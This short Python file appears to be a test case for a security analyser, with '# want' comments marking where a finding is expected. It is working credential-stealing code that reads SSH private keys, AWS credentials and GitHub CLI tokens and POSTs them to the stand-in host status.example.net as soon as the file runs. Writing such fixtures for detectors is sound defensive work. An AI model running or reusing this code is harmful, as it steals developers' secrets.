import os
import json
import urllib.request

STORES = ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.config/gh/hosts.yml")


def collect():
    info = {}
    for p in STORES:
        try:
            with open(os.path.expanduser(p)) as f:  # want: source
                info[p] = f.read()
        except OSError:
            pass
    return info


def report(payload):
    req = urllib.request.Request("https://status.example.net/r", data=json.dumps(payload).encode())  # want: finding
    urllib.request.urlopen(req)


report(collect())
